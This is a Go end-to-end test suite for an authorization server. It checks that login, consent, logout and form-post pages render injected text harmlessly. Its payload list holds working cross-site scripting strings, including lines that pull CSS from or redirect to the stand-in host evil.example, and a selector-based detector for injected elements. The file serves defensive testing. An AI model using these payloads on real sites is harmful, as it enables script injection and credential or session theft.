package e2e

import (
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/chromedp/chromedp"

	"github.com/gatehouse-dev/gatehouse/e2e/drive"
)

// payloads break out of the places where a text may stand in a page. Each calls pwned when it runs.
func payloads() []string {
	return []string{
		`"><script>pwned("tag")</script>`,
		`'><img src=x onerror=pwned("image")>`,
		`</title></style></textarea><svg onload=pwned("svg")>`,
		`</script><script>pwned("script")</script>`,
		`" autofocus onfocus=pwned("attribute") x="`,
		`javascript:pwned("address")//`,
		`<iframe srcdoc="<script>parent.pwned('frame')</script>">`,
		`*/;}</style><style>@import "//evil.example/x.css";`,
		"`;pwned(\"template\");`${pwned(\"value\")}",
		`<base href=//evil.example/><meta http-equiv=refresh content="0;url=//evil.example/">`,
	}
}

// unharmed demands that the page runs nothing foreign, holds no foreign element, and asks for nothing
// elsewhere.
func unharmed(b *drive.Tab) {
	b.T.Helper()
	foreign := drive.Script[[]string](b, `[...document.querySelectorAll("script:not([nonce]), iframe, object, embed, base, meta[http-equiv], style, img[src=x], svg[onload], [onerror], [onfocus], [onload]"),
		...[...document.querySelectorAll("a[href], form[action], button[formaction]")].filter((e) => /^\s*(javascript|data|vbscript):/i.test(e.getAttribute("href") ?? e.getAttribute("action") ?? e.getAttribute("formaction")))
	].map((e) => e.outerHTML)`)
	if len(foreign) > 0 {
		b.T.Errorf("%s: foreign elements: %q", b.Address(), foreign)
	}
	for _, address := range b.Requested() {
		if strings.Contains(address, "//evil.example") && !strings.HasPrefix(address, "http://localhost") {
			b.T.Errorf("%s asked for %s", b.Address(), address)
		}
	}
	b.Harmless()
}

// Scripts in what other people have named, sent or registered never run, nor does a policy have to
// stop one: they are text.
func TestThreat_BR06_ScriptsInNamesAreText(t *testing.T) {
	t.Parallel()
	h := drive.OpenHouse(t)
	app := application(h)
	me := drive.NewProfile(t)
	b := me.Tab()
	for i, payload := range payloads() {
		name := payload
		if len(name) > 100 {
			t.Fatalf("a payload longer than a name: %q", name)
		}
		identifier := fmt.Sprintf("https://api.example/%d", i)
		_, err := h.Manage(http.MethodPost, "resource-servers", drive.Object{
			"identifier": identifier, "name": name,
			"scopes": []drive.Object{{"value": "read:things", "description": payload}}, "default_permissions": []string{"read:things"},
		})
		if err != nil {
			t.Fatal(err)
		}
		registered := drive.Must[drive.Object](t)(h.Manage(http.MethodPost, "clients", drive.Object{
			"name": name, "app_type": "regular_web", "is_first_party": false, "callbacks": []string{app + "/callback"}, "default_audience": identifier,
		}))
		mallory := drive.Client{ClientID: registered["client_id"].(string)}
		email := fmt.Sprintf("mallory%d@example.com", i)
		user := drive.Must[drive.Object](t)(h.Manage(http.MethodPost, "users", drive.Object{
			"connection": "Username-Password-Authentication", "email": email, "email_verified": true, "name": payload, "given_name": payload, "nickname": payload,
		}))
		b.Open(drive.Must[string](t)(h.PasswordLink(user["user_id"].(string))))
		b.Fill("New password", drive.Newcomer.Password)
		b.Press("Save password")
		b.See("Your password is changed")

		b.Open(request(h, mallory, app+"/callback", "audience", identifier, "scope", "openid profile read:things", "state", payload, "login_hint", payload, "ui_locales", payload))
		b.See("to continue to " + payload)
		unharmed(b)
		b.Press("Create an account")
		b.See("Create your account")
		unharmed(b)
		b.Press("Sign in")
		me.SignIn(b, drive.Person{Email: email, Password: drive.Newcomer.Password})
		b.See("Allow " + payload + "?")
		unharmed(b)
		b.Press("Don’t allow")
		b.At(app)
		if state := b.Query("state"); state != payload {
			t.Errorf("state %q came back as %q", payload, state)
		}

		spa, at := h.Client(drive.SPAClient), url.QueryEscape(payload)
		for _, address := range []string{
			request(h, spa, payload), request(h, drive.Client{ClientID: payload}, app), request(h, spa, app, "response_type", payload), request(h, spa, app, "response_mode", payload),
			request(h, spa, app, "code_challenge", payload), request(h, spa, app, "prompt", payload), request(h, spa, app, "audience", payload, "nonce", payload),
			h.Issuer + "authorize?" + at, h.Issuer + "nowhere?" + at, h.Issuer + "nowhere/" + url.PathEscape(payload), h.Issuer + "u/password?ticket=" + at, h.Issuer + "dev/inbox?to=" + at,
			h.Issuer + "dev/inbox/" + url.PathEscape(payload), h.Issuer + "v2/logout?returnTo=" + at, h.Issuer + "v2/logout?client_id=" + at,
			h.Issuer + "oidc/logout?client_id=" + mallory.ClientID + "&state=" + at, h.Issuer + "oidc/logout?post_logout_redirect_uri=" + at, h.Issuer + "oidc/logout?id_token_hint=" + at,
		} {
			b.Open(address)
			unharmed(b)
		}
		b.Open(h.Issuer + "oidc/logout")
		b.Press("Sign out")
		b.See("You are signed out")
	}
}

// The same for every text of every view, whether or not somebody else can set it today.
func TestThreat_BR06_ScriptsInAnyTextOfAnyView(t *testing.T) {
	t.Parallel()
	for i, payload := range payloads() {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			origin, names := serveGallery(t, func(sample any) { fillStrings(sample, payload) })
			b := drive.NewProfile(t).Tab()
			for _, name := range names {
				b.Open(origin + "/sample/" + name)
				unharmed(b)
			}
		})
	}
}

// The page that posts the answer to the application can post nowhere else, and what it posts is text.
func TestThreat_BR07_FormPost(t *testing.T) {
	t.Parallel()
	h := drive.OpenHouse(t)
	var mu sync.Mutex
	var posted []url.Values
	app := h.Serve(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && r.ParseForm() == nil {
			mu.Lock()
			posted = append(posted, r.PostForm)
			mu.Unlock()
		}
		_, _ = w.Write([]byte("the application was reached"))
	}))
	web := h.Client(drive.WebClient)
	me := drive.NewProfile(t)
	enter(me, h, h.User(drive.Alice))
	b := me.Tab()
	for _, payload := range payloads() {
		b.Open(request(h, web, app+"/callback", "response_mode", "form_post", "state", payload))
		b.See("the application was reached")
		b.Harmless()
		mu.Lock()
		if last := posted[len(posted)-1]; last.Get("state") != payload || last.Get("code") == "" {
			t.Errorf("state %q arrived as %q", payload, last)
		}
		mu.Unlock()
	}

	still := me.Tab(drive.WithoutJavaScript)
	_, evil := hostile(t, "the thief was reached")
	still.Open(request(h, web, app+"/callback", "response_mode", "form_post"))
	still.See("Taking you back")
	drive.Script[chromedp.Void](still, `document.forms[0].action = `+drive.Quoted(evil)+"; undefined")
	still.Press("Continue")
	still.Wait("the policy stops the form", func() bool {
		return slices.ContainsFunc(still.Violations(), func(v string) bool { return strings.HasPrefix(v, "form-action") })
	})
	still.Lacks("the thief was reached")

	for _, uri := range []string{"javascript:alert(1)", "data:text/html,x", "vbscript:x", "http://evil.example/callback"} {
		if _, err := h.Manage(http.MethodPost, "clients", drive.Object{"name": "Evil", "app_type": "regular_web", "callbacks": []string{uri}}); err == nil {
			t.Errorf("%s was registered as a callback", uri)
		}
	}
}
